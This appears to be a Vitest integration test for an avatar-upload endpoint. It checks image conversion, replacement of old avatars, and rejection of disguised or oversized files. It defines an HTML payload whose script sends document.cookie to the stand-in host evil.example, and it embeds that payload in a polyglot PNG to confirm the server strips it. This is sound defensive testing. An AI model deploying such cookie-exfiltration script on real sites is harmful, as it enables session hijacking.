import { randomUUID } from 'node:crypto';
import { AVATAR_FILE_MESSAGES, AVATAR_SIZE_PX } from '@reeltalk/contracts';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { createDatabase } from '../db.ts';
import { storedObjects } from '../../testing/security/user-state.ts';
import { call, signUpUser, startTestApp, type ApiAnswer, type TestUser } from '../../testing/harness.ts';

/** A 400 × 300 picture in the given format. */
const picture = async (format: 'png' | 'jpeg' | 'gif'): Promise<Uint8Array<ArrayBuffer>> =>
  new Uint8Array(
    await sharp({ create: { width: 400, height: 300, channels: 3, background: { r: 30, g: 120, b: 200 } } })
      .toFormat(format)
      .toBuffer(),
  );

const HTML_PAYLOAD = '<html><body><script>fetch("https://evil.example/?c="+document.cookie)</script></body></html>';

describe('POST /api/users/avatar', () => {
  let bff: Awaited<ReturnType<typeof startTestApp>>;
  const db = createDatabase(inject('bffTest').databaseUrl);
  beforeAll(async () => {
    bff = await startTestApp();
  });
  afterAll(async () => {
    await db.destroy();
    await bff.stop();
  });

  const sendAvatar = async (user: TestUser, file: File, field = 'avatar'): Promise<ApiAnswer> => {
    const form = new FormData();
    form.append(field, file);
    const response = await fetch(`${bff.url}/api/users/avatar`, {
      method: 'POST',
      headers: { Authorization: `Bearer ${user.idToken}` },
      body: form,
    });
    return { status: response.status, headers: response.headers, body: await response.json() };
  };
  const userRow = (user: TestUser) =>
    db.selectFrom('users').selectAll().where('firebase_uid', '=', user.uid).executeTakeFirstOrThrow();
  const avatarsOf = async (user: TestUser) => storedObjects(`avatars/${(await userRow(user)).id}/`);
  const urlOf = (answer: ApiAnswer) => (answer.body as { data: { url: string } }).data.url;

  it.each([
    ['png', 'image/png'],
    ['jpeg', 'image/jpeg'],
    ['gif', 'image/gif'],
  ] as const)('stores a %s as a square PNG and the profile shows it', async (format, type) => {
    const user = await signUpUser();
    const answer = await sendAvatar(user, new File([await picture(format)], `me.${format}`, { type }));
    expect(answer.status, JSON.stringify(answer.body)).toBe(200);
    const stored = await fetch(urlOf(answer));
    expect(stored.status).toBe(200);
    const meta = await sharp(Buffer.from(await stored.arrayBuffer())).metadata();
    expect([meta.format, meta.width, meta.height]).toEqual(['png', AVATAR_SIZE_PX, AVATAR_SIZE_PX]);

    const profile = await call(bff.url, 'GET', '/api/users/profile', { token: user.idToken });
    const avatar = (profile.body as { data: { avatar: string } }).data.avatar;
    expect(new URL(avatar).pathname).toBe(new URL(urlOf(answer)).pathname);
    expect(new URL(avatar).pathname).toMatch(new RegExp(`/avatars/${(await userRow(user)).id}/[0-9a-f-]{36}\\.png$`));
  });

  it('deletes the previous avatar when a new one is stored', async () => {
    const user = await signUpUser();
    const first = await sendAvatar(user, new File([await picture('png')], 'one.png'));
    const second = await sendAvatar(user, new File([await picture('jpeg')], 'two.jpg'));
    expect([first.status, second.status]).toEqual([200, 200]);
    const objects = await avatarsOf(user);
    expect(objects.map((object) => `/reeltalk/${object.key}`)).toEqual([new URL(urlOf(second)).pathname]);
  });

  it('neutralises a polyglot: a PNG carrying HTML and a ZIP is stored as its pixels only', async () => {
    const user = await signUpUser();
    const zip = Buffer.concat([
      Buffer.from('PK\u0003\u0004'),
      Buffer.from('payload/index.html'),
      Buffer.from(HTML_PAYLOAD),
    ]);
    const polyglot = Buffer.concat([await picture('png'), Buffer.from(HTML_PAYLOAD), zip]);
    const answer = await sendAvatar(user, new File([new Uint8Array(polyglot)], 'innocent.png', { type: 'image/png' }));
    expect(answer.status).toBe(200);
    const stored = await fetch(urlOf(answer));
    const bytes = Buffer.from(await stored.arrayBuffer());
    expect(stored.headers.get('content-type')).toBe('image/png');
    expect(bytes.includes(Buffer.from('<script>'))).toBe(false);
    expect(bytes.includes(Buffer.from('PK\u0003\u0004'))).toBe(false);
    expect((await sharp(bytes).metadata()).format).toBe('png');
  });

  describe('refusals change nothing', () => {
    let user: TestUser;
    let keptUrl: string;
    beforeAll(async () => {
      user = await signUpUser();
      keptUrl = urlOf(await sendAvatar(user, new File([await picture('png')], 'kept.png')));
    });

    const expectUnchanged = async () => {
      const objects = await avatarsOf(user);
      expect(objects.map((object) => `/reeltalk/${object.key}`)).toEqual([new URL(keptUrl).pathname]);
    };

    it.each([
      ['a text file named .png', new File(['hello, I am not a picture'], 'fake.png', { type: 'image/png' })],
      ['an HTML page', new File([HTML_PAYLOAD], 'page.gif', { type: 'image/gif' })],
      ['an SVG', new File(['<svg xmlns="http://www.w3.org/2000/svg"/>'], 'a.svg', { type: 'image/svg+xml' })],
      [
        'a PNG signature and garbage',
        new File([Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.alloc(900, 1)])], 'b.png'),
      ],
    ])('refuses %s with 415', async (_what, file) => {
      const answer = await sendAvatar(user, file);
      expect(answer.status).toBe(415);
      expect(answer.body).toEqual({ error: 'unsupported_media_type', message: AVATAR_FILE_MESSAGES.type });
      await expectUnchanged();
    });

    it('refuses a file over 5 MB with 413', async () => {
      const big = Buffer.concat([await picture('png'), Buffer.alloc(5 * 1024 * 1024, 0)]);
      const answer = await sendAvatar(user, new File([new Uint8Array(big)], 'big.png', { type: 'image/png' }));
      expect(answer.status).toBe(413);
      expect(answer.body).toMatchObject({ message: AVATAR_FILE_MESSAGES.size });
      await expectUnchanged();
    });

    it('refuses a form without the avatar field', async () => {
      const answer = await sendAvatar(user, new File([await picture('png')], 'x.png'), 'file');
      expect(answer.status).toBe(400);
      await expectUnchanged();
    });

    it('refuses a body that is not a form', async () => {
      const answer = await call(bff.url, 'POST', '/api/users/avatar', {
        token: user.idToken,
        json: { avatar: randomUUID() },
      });
      expect(answer.status).toBe(400);
      await expectUnchanged();
    });
  });
});
